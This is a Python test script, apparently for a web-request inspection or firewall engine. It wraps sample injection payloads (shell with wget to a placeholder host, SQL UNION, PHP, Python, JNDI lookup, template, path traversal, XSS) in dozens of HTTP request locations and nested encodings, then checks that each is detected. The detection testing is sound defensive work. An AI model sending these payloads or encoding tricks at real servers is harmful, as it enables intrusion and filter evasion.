#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Codes of several languages in every place a server reads and written in every way, two and three ways nested.

usage: places.py BUILD [SEED [WORD…]]
Each code comes out as it was before it was written so: language, place and the steps that lead to it. The ways are Python's
encoders, the constants are by chance. WORD: only what holds it in its name.
"""
import base64, gzip, itertools, json, os, random, subprocess, struct, sys, urllib.parse as u, zlib
from xml.sax.saxutils import escape, quoteattr

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), '..', 'support'))
from tap import Tap

SEED = int((sys.argv[2:] or ['1'])[0])
chance = random.Random(SEED)
A, B = chance.randrange(1000, 9000), chance.randrange(1000, 9000)
NAME = ''.join(chance.choices('bcdfghklmnprstvz', k=7))

# language: the value that stands in the place, what of it is code
CODES = {
    'shell': (f'{NAME};wget http://{NAME}.example/{B}', f'wget http://{NAME}.example/{B}'),
    'sql': (f"{A}' UNION SELECT {A},{B}-- -", None),
    'php': (f'<?php echo {A}*{B};?>', None),
    'python': (f"__import__('os').popen('expr {A} + {B}').read()", None),
    'jndi': (f'${{jndi:ldap://{NAME}.example/x{B}}}', None),
    'template': (f'{{{{{A}*{B}}}}}', None),
    'path': (f'../../../../etc/{NAME}/passwd', None),
    'html': (f'<script>alert({A})</script>', None),
}


def every(text, form):
    return ''.join(form % c for c in text.encode())


def overlong(text):
    """Percent-encoded UTF-8, what is not a letter or digit in two bytes where one is enough."""
    return ''.join(c if c.isalnum() else '%%%02x%%%02x' % (0xc0 | ord(c) >> 6, 0x80 | ord(c) & 63) for c in text)


def b64(data):
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def raw_deflate(text):
    made = zlib.compressobj(9, zlib.DEFLATED, -15)
    return made.compress(text.encode()) + made.flush()


# name: (how it is written, the steps that undo it)
WAYS = {
    'percent': (lambda t: every(t, '%%%02x'), ['url']),
    '%u': (lambda t: ''.join('%%u%04x' % ord(c) for c in t), ['url']),
    'overlong': (overlong, ['url', 'utf8']),
    'entities': (lambda t: every(t, '&#%d;'), ['html']),
    'hex entities': (lambda t: every(t, '&#x%x;'), ['html']),
    'unicode escapes': (lambda t: every(t, '\\u%04x'), ['escape']),
    'hex escapes': (lambda t: every(t, '\\x%02x'), ['escape']),
    'octal escapes': (lambda t: every(t, '\\%03o'), ['escape']),
    'hex': (lambda t: t.encode().hex(), ['hex']),
    '0x': (lambda t: '0x' + t.encode().hex(), ['hex']),
    'base64': (b64, ['base64']),
    'base64 unpadded': (lambda t: b64(t).rstrip('='), ['base64']),
    'base64 of an address': (lambda t: base64.urlsafe_b64encode(t.encode()).decode().rstrip('='), ['base64']),
    'base64 in lines': (lambda t: '\n'.join(b64(t)[i:i + 20] for i in range(0, len(b64(t)), 20)), ['base64']),
    'gzip': (lambda t: b64(gzip.compress(t.encode(), mtime=0)), ['base64', 'gzip']),
    'zlib': (lambda t: b64(zlib.compress(t.encode())), ['base64', 'gzip']),
    'raw deflate': (lambda t: b64(raw_deflate(t)), ['base64', 'deflate']),
}
NESTED = ['percent', 'entities', 'unicode escapes', 'hex', 'base64', 'gzip', 'raw deflate']


def http(head, body=b'', more=''):
    body = body.encode() if isinstance(body, str) else body
    length = f'Content-Length: {len(body)}\r\n' if body and 'chunked' not in more else ''
    return f'{head} HTTP/1.1\r\nHost: www.example.net\r\n{more}{length}\r\n'.encode('latin1') + body


def get(target, more=''):
    return http('GET ' + target, more=more)


def post(body, kind, more='', method='POST'):
    return http(f'{method} /app/run', body, f'Content-Type: {kind}\r\n{more}')


def q(text):
    return u.quote(text, safe='')


def form(text, method='POST', kind='application/x-www-form-urlencoded'):
    return post(f'a=1&b={q(text)}', kind, method=method)


def part(content, headers='Content-Disposition: form-data; name="a"', boundary='XyZ', shown=None):
    return f'--{boundary}\r\n{headers}\r\n\r\n'.encode() + (content.encode() if isinstance(content, str) else content) + f'\r\n--{boundary}--\r\n'.encode()


def multipart(body, boundary='XyZ'):
    return post(body, f'multipart/form-data; boundary={boundary}')


def disposition(rest):
    return multipart(part('some text', 'Content-Disposition: form-data; name="a"; ' + rest))


def chunks(body, size):
    pieces = [body[i:i + size] for i in range(0, len(body), size)]
    return b''.join(b'%x;x=1\r\n%s\r\n' % (len(p), p) for p in pieces) + b'0\r\n\r\n'


def jwt(text):
    side = lambda o: base64.urlsafe_b64encode(json.dumps(o).encode()).decode().rstrip('=')
    return side({'alg': 'HS256', 'typ': 'JWT'}) + '.' + side({'sub': text, 'iat': A}) + '.' + 'c2lnbmF0dXJlIG9mIGl0'


def json_text(text):
    """Has JSON to escape it?"""
    return ['escape'] if json.dumps(text)[1:-1] != text else []


def xml_text(text):
    return ['html'] if escape(text) != text else []


def url_text(text):
    return ['url'] if q(text) != text else []


BODY, URI = 'http.request_body', 'http.uri'
FORM = 'application/x-www-form-urlencoded'
SOAP = '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="u"><m:Id>%s</m:Id></m:Get></soap:Body></soap:Envelope>'
CALL = '<?xml version="1.0"?><methodCall><methodName>get</methodName><params><param><value><string>%s</string></value></param></params></methodCall>'
AROUND = {'sql', 'template', 'path', 'html'}  # those are judged with the path around them
ASKED = {'path'}  # a file's name, which only what is asked for names: no header's text, no name of a field, no line of a protocol


def quoted(text):
    return text.replace('\\', '\\\\').replace('"', '\\"')


# name: (the request, where, the place's own steps before the value, languages that do not come there)
PLACES = {
    'query': (lambda t: get('/x?a=1&b=' + q(t)), URI, url_text, ()),
    'query, plus for blanks': (lambda t: get('/x?a=1&b=' + u.quote_plus(t, safe='')), URI, lambda t: (['plus'] if ' ' in t else []) + url_text(t.replace(' ', '')), ()),
    'name in the query': (lambda t: get(f'/x?{q(t)}=1'), URI, url_text, ()),
    'the whole query': (lambda t: get('/x?' + q(t)), URI, url_text, ()),
    'the end of the path': (lambda t: get(f'/x/{q(t)}'), URI, url_text, AROUND | {'php', 'python'}),
    'Referer': (lambda t: get('/', f'Referer: http://h.example/x?a={q(t)}\r\n'), 'http.header.referer', url_text, ASKED),
    'User-Agent': (lambda t: get('/', f'User-Agent: {t}\r\n'), 'http.header.user-agent', None, ASKED),
    'a header of its own': (lambda t: get('/', f'X-Api-Version: {t}\r\n'), 'http.header.x-api-version', None, ASKED),
    'cookie': (lambda t: get('/', f'Cookie: s=1; b={q(t)}; c=2\r\n'), 'http.cookie', url_text, ()),
    'cookie of JSON': (lambda t: get('/', f'Cookie: s=1; b={q(json.dumps({"id": t}))}\r\n'), 'http.cookie', lambda t: ['url', 'json'] + json_text(t), ()),
    'Basic': (lambda t: get('/', f'Authorization: Basic {b64("user:" + t)}\r\n'), 'http.header.authorization', lambda t: ['base64'], ()),
    'Bearer': (lambda t: get('/', f'Authorization: Bearer {jwt(t)}\r\n'), 'http.header.authorization', lambda t: ['token', 'base64', 'json'] + json_text(t), ()),
    'token in a cookie': (lambda t: get('/', f'Cookie: token={jwt(t)}\r\n'), 'http.cookie', lambda t: ['token', 'base64', 'json'] + json_text(t), ()),
    'form': (form, BODY, url_text, ()),
    'form of PUT': (lambda t: form(t, 'PUT'), BODY, url_text, ()),
    'form of PATCH': (lambda t: form(t, 'PATCH'), BODY, url_text, ()),
    'form of no type': (lambda t: http('POST /app/run', f'a=1&b={q(t)}'), BODY, url_text, ()),
    'JSON in a form': (lambda t: post('a=' + q(json.dumps({'x': [1, {'y': t}]})), FORM), BODY, lambda t: ['url', 'json'] + json_text(t), ()),
    'JSON': (lambda t: post(json.dumps({'a': {'b': [1, t]}}), 'application/json'), BODY, json_text, ()),
    'JSON of PATCH': (lambda t: post(json.dumps([{'op': 'add', 'path': '/x', 'value': t}]), 'application/json-patch+json', method='PATCH'), BODY, json_text, ()),
    'name in JSON': (lambda t: post(json.dumps({t: 1}), 'application/json'), BODY, json_text, ASKED),
    'JSON in JSON': (lambda t: post(json.dumps({'a': json.dumps({'b': t})}), 'application/json'), BODY, lambda t: ['escape', 'json'] + json_text(t), ()),
    'GraphQL variable': (lambda t: post(json.dumps({'query': 'query($a:String){x(a:$a){id}}', 'variables': {'a': t}}), 'application/json'), BODY, json_text, ()),
    'GraphQL argument': (lambda t: post(json.dumps({'query': '{x(a:"%s"){id}}' % quoted(t)}), 'application/json'), BODY, lambda t: ['escape', 'json'] + (['escape'] if quoted(t) != t else []), ()),
    'GraphQL query': (lambda t: post('{x(a:"%s"){id}}' % quoted(t), 'application/graphql'), BODY, lambda t: ['escape'] if quoted(t) != t else [], ()),
    'JSON-RPC': (lambda t: post(json.dumps({'jsonrpc': '2.0', 'method': 'get', 'params': [t], 'id': 1}), 'application/json-rpc'), BODY, json_text, ()),
    'lines of JSON': (lambda t: post('{"a":1}\n' + json.dumps({'a': t}) + '\n', 'application/x-ndjson'), BODY, json_text, ()),
    'XML': (lambda t: post(f'<a><b>{escape(t)}</b></a>', 'text/xml'), BODY, xml_text, ()),
    'XML attribute': (lambda t: post(f'<a><b c={quoteattr(t)}/></a>', 'application/xml'), BODY, xml_text, ()),
    'CDATA': (lambda t: post(f'<a><b><![CDATA[{t}]]></b></a>', 'application/xml'), BODY, None, ()),
    'SOAP': (lambda t: post(SOAP % escape(t), 'application/soap+xml; charset=utf-8'), BODY, xml_text, ()),
    'SOAP in CDATA': (lambda t: post(SOAP % f'<![CDATA[{t}]]>', 'text/xml'), BODY, None, ()),
    'XML in SOAP': (lambda t: post(SOAP % escape(f'<in><id>{escape(t)}</id></in>'), 'text/xml'), BODY, lambda t: ['html', 'xml'] + xml_text(t), {'html'}),
    'XML-RPC': (lambda t: post(CALL % escape(t), 'text/xml'), BODY, xml_text, ()),
    'XML in a form': (lambda t: post('a=' + q(f'<r><id>{escape(t)}</id></r>'), FORM), BODY, lambda t: ['url', 'xml'] + xml_text(t), {'html'}),
    'XML in UTF-16': (lambda t: post(f'<?xml version="1.0" encoding="utf-16"?><a><b>{escape(t)}</b></a>'.encode('utf-16'), 'text/xml; charset=utf-16'), BODY, lambda t: ['charset'] + xml_text(t), ()),
    'multipart': (lambda t: multipart(part(t)), BODY, None, ()),
    'multipart of PUT': (lambda t: post(part(t), 'multipart/form-data; boundary=XyZ', method='PUT'), BODY, None, ()),
    'content of a file': (lambda t: multipart(part(t, 'Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain')), BODY, None, ()),
    'name of a file': (lambda t: disposition(f'filename="{quoted(t)}"'), BODY, lambda t: ['escape'] if quoted(t) != t else [], ()),
    'name of a file, RFC 5987': (lambda t: disposition(f"filename*=UTF-8''{q(t)}"), BODY, url_text, ()),
    'name of a file, RFC 2231': (lambda t: disposition('; '.join(f"filename*{i}*={chr(39) * 2 if i == 0 else ''}{q(t[s:s + 9])}" for i, s in enumerate(range(0, len(t), 9)))), BODY, lambda t: ['joined'] + url_text(t), ()),
    'name of a file, RFC 2047': (lambda t: disposition('filename="=?utf-8?B?' + b64(t) + '?="'), BODY, lambda t: ['base64'], ()),
    'name of a field': (lambda t: multipart(part('x', f'Content-Disposition: form-data; name="{quoted(t)}"')), BODY, lambda t: ['escape'] if quoted(t) != t else [], ASKED),
    'part in base64': (lambda t: multipart(part(base64.encodebytes(t.encode()), 'Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64')), BODY, lambda t: ['base64'], ()),
    'part in quoted-printable': (lambda t: multipart(part(''.join('=%02X' % c for c in t.encode()), 'Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: quoted-printable')), BODY, lambda t: ['quoted-printable'], ()),
    'part of JSON': (lambda t: multipart(part(json.dumps({'b': t}), 'Content-Disposition: form-data; name="a"\r\nContent-Type: application/json')), BODY, lambda t: ['json'] + json_text(t), ()),
    'part of JSON without type': (lambda t: multipart(part(json.dumps({'b': t}))), BODY, lambda t: ['json'] + json_text(t), ()),
    'part of XML': (lambda t: multipart(part(f'<a>{escape(t)}</a>', 'Content-Disposition: form-data; name="a"\r\nContent-Type: image/svg+xml')), BODY, lambda t: ['xml'] + xml_text(t), ()),
    'parts in a part': (lambda t: multipart(part(part(t, boundary='In'), 'Content-Disposition: form-data; name="a"\r\nContent-Type: multipart/mixed; boundary=In')), BODY, lambda t: ['parts'], ()),
    'parts in base64': (lambda t: multipart(part(base64.encodebytes(part(t, boundary='In')), 'Content-Type: multipart/mixed; boundary=In\r\nContent-Transfer-Encoding: base64')), BODY, lambda t: ['base64', 'parts'], ()),
    'odd boundary': (lambda t: multipart(part(t, boundary="=_'()+,-./:=? a"), '"=_\'()+,-./:=? a"'), BODY, None, ()),
    'long boundary': (lambda t: multipart(part(t, boundary='-' * 60 + '8' * 40), '-' * 60 + '8' * 40), BODY, None, ()),
    'boundary in no part': (lambda t: post(b'preamble\r\n' + part(t), 'multipart/form-data; charset=utf-8; boundary=XyZ'), BODY, None, ()),
    'content with the boundary in a line': (lambda t: multipart(part(f'the mark is --XyZ {t}')), BODY, None, set(CODES) - {'jndi', 'php'}),
    'text': (lambda t: post(t, 'text/plain'), BODY, None, ()),
    'gzip': (lambda t: post(gzip.compress(f'a=1&b={q(t)}'.encode()), FORM, 'Content-Encoding: gzip\r\n'), BODY, lambda t: ['gzip'] + url_text(t), ()),
    'deflate': (lambda t: post(zlib.compress(json.dumps({'a': t}).encode()), 'application/json', 'Content-Encoding: deflate\r\n'), BODY, lambda t: ['gzip'] + json_text(t), ()),
    'chunks': (lambda t: post(chunks(f'a=1&b={q(t)}'.encode(), 7), FORM, 'Transfer-Encoding: chunked\r\n'), BODY, url_text, ()),
    'gzip in chunks': (lambda t: post(chunks(gzip.compress(f'a=1&b={q(t)}'.encode()), 7), FORM, 'Transfer-Encoding: gzip, chunked\r\n'), BODY, lambda t: ['gzip'] + url_text(t), ()),
    'UTF-16': (lambda t: post(json.dumps({'a': t}).encode('utf-16-le'), 'application/json; charset=utf-16le'), BODY, lambda t: ['charset'] + json_text(t), ()),
    'UTF-16, percent-encoded': (lambda t: post('a=' + u.quote_from_bytes(t.encode('utf-16-be'), safe=''), FORM + '; charset=utf-16be'), BODY, lambda t: ['url', 'charset'], ()),
    'UTF-7': (lambda t: post(json.dumps({'a': t}).encode('utf-7'), 'application/json; charset=utf-7'), BODY, lambda t: ['charset'], ()),
    'EBCDIC': (lambda t: post(json.dumps({'a': t}).encode('cp037'), 'application/json; charset=ibm037'), BODY, lambda t: ['charset'] + json_text(t), ()),
    'EBCDIC, percent-encoded': (lambda t: post('a=' + u.quote_from_bytes(t.encode('cp037'), safe=''), FORM + '; charset=ibm500'), BODY, lambda t: ['url', 'charset'], ()),
    'line of a stream': (lambda t: f'220 go\r\nMAIL {t}\r\nQUIT\r\n'.encode(), 'stream', None, ASKED),
    'line of a stream by itself': (lambda t: f'{t}\n'.encode(), 'stream', None, ASKED),
    'a bulk of Redis': (lambda t: f'*3\r\n$3\r\nSET\r\n$1\r\nx\r\n${len(t)}\r\n{t}\r\n'.encode(), 'stream', None, ASKED),
}


def codes(build, requests):
    """For each request, the set of (language, place, steps, code)."""
    out = subprocess.run([os.path.join(build, 'tests/support/extracted'), 'whole'], stdout=subprocess.PIPE, check=True,
                         input=b''.join(struct.pack('<I', len(r)) + r for r in requests)).stdout.decode().splitlines()
    found = [set() for _ in requests]
    for line in out[:-1]:
        number, language, where, _, steps, code = line.split(' ')
        found[int(number)].add((language, where, () if steps == '-' else tuple(steps.split(',')), bytes.fromhex(code)))
    return found


def cases():
    """(name, request, what must be among what is found)"""
    for language, (value, code) in CODES.items():
        code = (code or value).encode()
        for place, (make, where, steps, without) in PLACES.items():
            if language not in without:
                yield f'{language}, {place}', make(value), (language, where, tuple(steps(value)) if steps else (), code)
        ways = [(a,) for a in WAYS] + [n for k in (2, 3) for n in itertools.product(NESTED, repeat=k)]
        for names in ways:
            text = value
            steps = []
            for name in names:
                text, steps = WAYS[name][0](text), WAYS[name][1] + steps
            yield f'{language}, {" in ".join(names)}', get('/x?a=1&b=' + q(text)), (language, URI, tuple(url_text(text) + steps), code)


def main():
    tap, words = Tap(), sys.argv[3:]
    chosen = [c for c in cases() if all(w in c[0] for w in words)]
    for (name, request, wanted), found in zip(chosen, codes(sys.argv[1], [c[1] for c in chosen])):
        tap.ok(wanted in found, name, f'wanted {wanted}\n' + '\n'.join(map(str, sorted(found))))
    tap.done()


main()
